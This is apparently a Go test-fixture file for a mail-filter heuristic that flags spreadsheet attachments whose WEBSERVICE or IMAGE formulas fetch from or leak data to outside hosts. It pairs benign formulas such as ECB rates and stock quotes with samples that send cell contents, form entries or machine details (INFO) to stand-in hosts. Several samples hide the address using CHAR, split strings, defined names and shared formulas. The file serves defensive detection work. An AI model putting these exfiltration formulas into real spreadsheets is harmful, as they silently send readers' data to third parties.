package heuristic

import (
	"strings"

	"github.com/kensa-milter/kensa/message"
)

// formulaFetchCases: WEBSERVICE and IMAGE formulas in the places each
// spreadsheet format keeps them, their addresses built from cells and
// names, and the honest ones.
func formulaFetchCases() map[string][]sample {
	const sheet = "2/book.xlsx/xl/worksheets/sheet1.xml"
	const other = "office@smith-plumbing.test"
	// book is an .xlsx whose first sheet holds cells (A1 the formula f),
	// with shared strings and defined names.
	book := func(from, f, cells, shared, names string) *message.Message {
		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
			text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x" xmlns:r="r"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Data" sheetId="2" r:id="rId2"/></sheets><definedNames>`+names+`</definedNames></workbook>`),
			text("2/book.xlsx/xl/_rels/workbook.xml.rels", `<Relationships xmlns="x"><Relationship Id="rId1" Type="t/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="t/worksheet" Target="worksheets/sheet2.xml"/></Relationships>`),
			text("2/book.xlsx/xl/sharedStrings.xml", `<sst xmlns="x">`+shared+`</sst>`),
			text("2/book.xlsx/xl/worksheets/sheet2.xml", `<worksheet xmlns="x"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>https://api.example.org/v1</t></is></c></row></sheetData></worksheet>`),
			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="str"><f>`+f+`</f><v>ok</v></c>`+cells+`</row></sheetData></worksheet>`)))
	}
	xlsx := func(from, f string) *message.Message {
		return book(from, f, `<c r="B1" t="s"><v>0</v></c>`, `<si><t></t></si>`, "")
	}
	// rows is an .xlsx whose first sheet holds the rows given (shared
	// formulas among them).
	rows := func(from, rows string) *message.Message {
		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
			text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x" xmlns:r="r"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
			text("2/book.xlsx/xl/_rels/workbook.xml.rels", `<Relationships xmlns="x"><Relationship Id="rId1" Type="t/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+rows+`</sheetData></worksheet>`)))
	}
	// fillDown is column A's formula f filled down rows 1-3 as Excel saves
	// it (one shared formula), column B holding b1..b3.
	fillDown := func(from, f, b1, b2, b3 string) *message.Message {
		cell := func(r, v string) string {
			if v == "" {
				return ""
			}
			if f, ok := strings.CutPrefix(v, "="); ok {
				return `<c r="B` + r + `" t="str"><f>` + f + `</f><v>x</v></c>`
			}
			return `<c r="B` + r + `" t="inlineStr"><is><t>` + v + `</t></is></c>`
		}
		return rows(from, `<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:A3" si="0">`+f+`</f><v>ok</v></c>`+cell("1", b1)+`</row>`+
			`<row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>ok</v></c>`+cell("2", b2)+`</row>`+
			`<row r="3"><c r="A3" t="str"><f t="shared" si="0"/><v>ok</v></c>`+cell("3", b3)+`</row>`)
	}
	ods := func(cells string) *message.Message {
		return sentBy(other, msg(part("2", zipBytes, named("book.ods"), container()),
			text("2/book.ods/content.xml", `<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x"><office:body><office:spreadsheet><table:named-expressions><table:named-range table:name="site" table:cell-range-address="$Sheet1.$C$1"/></table:named-expressions><table:table table:name="Sheet1"><table:table-row>`+
				cells+`</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`)))
	}
	const odsExfil = `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://203.0.113.7/x?&quot;&amp;COM.MICROSOFT.ENCODEURL([.B1]))" office:value-type="string"><text:p>ok</text:p></table:table-cell>`
	names := sentBy(other, msg(part("2", zipBytes, named("book.xlsx"), container()),
		text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x"><definedNames><definedName name="feed">_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml?u="&amp;_xlfn.ENCODEURL(Sheet1!$B$9)),"//title")</definedName></definedNames></workbook>`)))
	listing := func(s string) *message.Message {
		return sentBy(other, msg(part("2", zipBytes, named("book.xls"), container()), text("2/book.xls/web-formulas", s)))
	}
	return map[string][]sample{"formula-web-fetch": {
		{"WEBSERVICE sending an empty cell out (.xlsx)", xlsx(other, `_xlfn.WEBSERVICE("https://collect.example.net/x?"&amp;_xlfn.ENCODEURL(B1))`), sheet},
		{"a host written as a number", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE(&quot;http://203.0.113.7/a.xml&quot;),"//title")`), sheet},
		{"a host written as one number", xlsx(other, `_xlfn.IMAGE("http://3405803783/t.png")`), sheet},
		{"the address in pieces", xlsx(other, `_xlfn.WEBSERVICE("ht"&amp;"tp://"&amp;"files.example.net/p")`), sheet},
		{"the host spelled with CHAR", xlsx(other, `_xlfn.WEBSERVICE("https://"&amp;CHAR(102)&amp;"iles.example.net/p")`), sheet},
		{"the address in another cell, built with an empty one", book(other, `_xlfn.WEBSERVICE(A2)`,
			`</row><row r="2"><c r="A2" t="str"><f>"https://collect.example.net/c?u="&amp;C2</f><v>x</v></c>`, "", ""), sheet},
		{"CONCATENATE of the sheet's address and the reader's entry", book(other, `_xlfn.WEBSERVICE(CONCATENATE(B1,"/c?name=",C1))`,
			`<c r="B1" t="s"><v>0</v></c>`, `<si><t>https://collect.example.net</t></si>`, ""), sheet},
		{"TEXTJOIN over a range with an empty cell", book(other, `_xlfn.WEBSERVICE(_xlfn.TEXTJOIN("",TRUE,B1:D1))`,
			`<c r="B1" t="s"><v>0</v></c><c r="C1" t="s"><v>1</v></c>`, `<si><t>https://collect.example.net/c?</t></si><si><t>pw=</t></si>`, ""), sheet},
		{"a defined name holding the address, another sheet's cell", book(other, `_xlfn.WEBSERVICE(base&amp;"/q?v="&amp;_xlfn.ENCODEURL(E1))`, "", "",
			`<definedName name="base">Data!$A$1</definedName>`), sheet},
		{"ENCODEURL of a form cell, pre-filled", book(other, `_xlfn.WEBSERVICE("https://collect.example.net/x?"&amp;_xlfn.ENCODEURL(B1))`,
			`<c r="B1" t="inlineStr"><is><t>ACME-4471</t></is></c>`, "", ""), sheet},
		{"the machine's details (INFO)", xlsx(other, `_xlfn.WEBSERVICE("https://t.example.net/o?v="&amp;INFO("osversion"))`), sheet},
		{"a cell run through a function not evaluated", xlsx(other, `_xlfn.WEBSERVICE("https://collect.example.net/?d="&amp;SUBSTITUTE(B1," ","+"))`), sheet},
		{"a defined name (workbook.xml)", names, "2/book.xlsx/xl/workbook.xml"},
		{"an OpenDocument spreadsheet", ods(odsExfil), "2/book.ods/content.xml"},
		{"an OpenDocument named range and cell", ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.C1]&amp;&quot;?u=&quot;&amp;[.B1])"/><table:table-cell/><table:table-cell office:value-type="string"><text:p>https://collect.example.net/c</text:p></table:table-cell>`), "2/book.ods/content.xml"},
		{"an .xls's decompiled formulas", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n"), "2/book.xls/web-formulas"},
		{"an .xls's address on another sheet, sending a form cell", listing("Form!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&R2C2)\nSetup!R1C1 = \"https://collect.example.net/c?n=\"\n"), "2/book.xls/web-formulas"},
		{"an .xls's range on another sheet, one cell empty", listing("Form!R1C1: =_xlfn.WEBSERVICE(_xlfn.CONCAT('Setup'!R1C1:R1C3))\nSetup!R1C1 = \"https://collect.example.net/c?\"\nSetup!R1C2 = \"n=\"\n"), "2/book.xls/web-formulas"},
		{"an .xls's address in another cell", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R1C2)\nSheet1!R2C1 = \"https://collect.example.net/c?u=\"\n"), "2/book.xls/web-formulas"},
		{"a shared formula's copy sends an empty cell", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "", "ACME-3"), sheet},
		{"a shared formula's copy reads the machine", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "=INFO(&quot;osversion&quot;)", "ACME-3"), sheet},
		{"a shared formula filled across, an absolute base", rows(other, `<row r="1"><c r="A1" t="inlineStr"><is><t>https://collect.example.net/c?v=</t></is></c><c r="B1" t="inlineStr"><is><t>x</t></is></c></row>`+
			`<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:D2" si="4">_xlfn.WEBSERVICE($A$1&amp;B$1)</f><v>ok</v></c><c r="C2" t="str"><f t="shared" si="4"/><v>ok</v></c></row>`), sheet},
		// Honest: the sender's own service, fixed addresses on named hosts,
		// addresses completed by the sheet's own values, an intranet API.
		{"WEBSERVICE to the sender's own API", xlsx("finance@acme-corp.example", `_xlfn.WEBSERVICE("https://api.acme-corp.example/rates?d="&amp;TEXT(TODAY(),"yyyy-mm-dd")&amp;"&amp;q="&amp;B1)`), ""},
		{"a well-known company's API", xlsx(other, `_xlfn.WEBSERVICE("https://query1.finance.yahoo.com/v7/finance/quote?symbols=MSFT")`), ""},
		{"the ECB's rates", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://www.ecb.europa.eu/stats/eurofxref/eurofxref-daily.xml"),"//Cube")`), ""},
		{"a feed on a named host", xlsx(other, `_xlfn.FILTERXML(_xlfn.WEBSERVICE("https://feed.example.net/a.xml"),"//title")`), ""},
		{"a picture from a web site", xlsx(other, `_xlfn.IMAGE("https://cdn.example.net/logo.png")`), ""},
		{"exchange rates for the currency in a cell", book(other, `_xlfn.WEBSERVICE("https://api.rates.example/latest?base="&amp;B1&amp;"&amp;symbols="&amp;C1)`,
			`<c r="B1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t>USD</t></is></c>`, `<si><t>EUR</t></si>`, ""), ""},
		{"a stock quote for the symbols in a range", book(other, `_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;_xlfn.TEXTJOIN(",",TRUE,B1:C1))`,
			`<c r="B1" t="inlineStr"><is><t>MSFT</t></is></c><c r="C1" t="inlineStr"><is><t>AAPL</t></is></c>`, "", ""), ""},
		{"the weather for a named city, by a defined name", book(other, `_xlfn.WEBSERVICE(api&amp;"/weather?q="&amp;city)`, `<c r="B1" t="inlineStr"><is><t>London</t></is></c>`, "",
			`<definedName name="city">Sheet1!$B$1</definedName><definedName name="api">Data!$A$1</definedName>`), ""},
		{"Microsoft Graph", xlsx(other, `_xlfn.WEBSERVICE("https://graph.microsoft.com/v1.0/$metadata")`), ""},
		{"the company's intranet API with the reader's entry", xlsx(other, `_xlfn.WEBSERVICE("http://finance-api/rates?ccy="&amp;B1)`), ""},
		{"an intranet address", xlsx(other, `_xlfn.WEBSERVICE("http://10.20.0.5:8080/rates?ccy="&amp;B1)`), ""},
		{"an address the reader types", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
		{"another function named like one", xlsx(other, `GETIMAGE("https://img.example.net/t.png?u="&amp;B1)`), ""},
		{"HYPERLINK to a share needs a click", xlsx(other, `HYPERLINK("\\203.0.113.7\share\a.xlsx","budget")`), ""},
		{"quotes filled down, each row's symbol filled in", fillDown(other, `_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;B1)`, "MSFT", "AAPL", "GOOG"), ""},
		{"a shared formula whose copies stay on the sheet's filled cells", rows(other, `<row r="1"><c r="A1" t="inlineStr"><is><t>https://quotes.example.org/q?s=</t></is></c><c r="B1" t="inlineStr"><is><t>MSFT</t></is></c><c r="C1" t="inlineStr"><is><t>AAPL</t></is></c></row>`+
			`<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:C2" si="0">_xlfn.WEBSERVICE($A$1&amp;B$1)</f><v>ok</v></c><c r="C2" t="str"><f t="shared" si="0"/><v>ok</v></c></row>`), ""},
		{"an .xls's rates from another sheet's cells", listing("Prices!R1C1: =_xlfn.WEBSERVICE('Setup'!R1C1&'Setup'!R1C2)\nPrices!R1C2 = \"EUR\"\nSetup!R1C1 = \"https://api.rates.example/latest?base=\"\nSetup!R1C2 = \"USD\"\n"), ""},
		{"an .xls's name for another sheet's cell", listing("' name ccy = 'Set''up'!R1C2\nPrices!R1C1: =_xlfn.WEBSERVICE(\"https://api.rates.example/latest?base=\"&ccy)\nSet'up!R1C2 = \"USD\"\n"), ""},
		{"an .xls's rates from the sheet's own cells", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R2C2)\nSheet1!R2C1 = \"https://api.rates.example/latest?base=\"\nSheet1!R2C2 = \"EUR\"\n"), ""},
	}, "formula-web-hidden": {
		{"an address from a look-up", xlsx(other, `_xlfn.WEBSERVICE(VLOOKUP("k",Data!A1:B9,2,FALSE))`), sheet},
		{"an address from the machine", xlsx(other, `_xlfn.WEBSERVICE(INFO("directory"))`), sheet},
		{"a host from INDIRECT", xlsx(other, `_xlfn.WEBSERVICE("https://"&amp;INDIRECT("Z"&amp;"9")&amp;"/p")`), sheet},
		{"a fixed address is not hidden", xlsx(other, `_xlfn.WEBSERVICE("https://feed.example.net/a.xml")`), ""},
		{"an address the reader types is not hidden", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
	}}
}
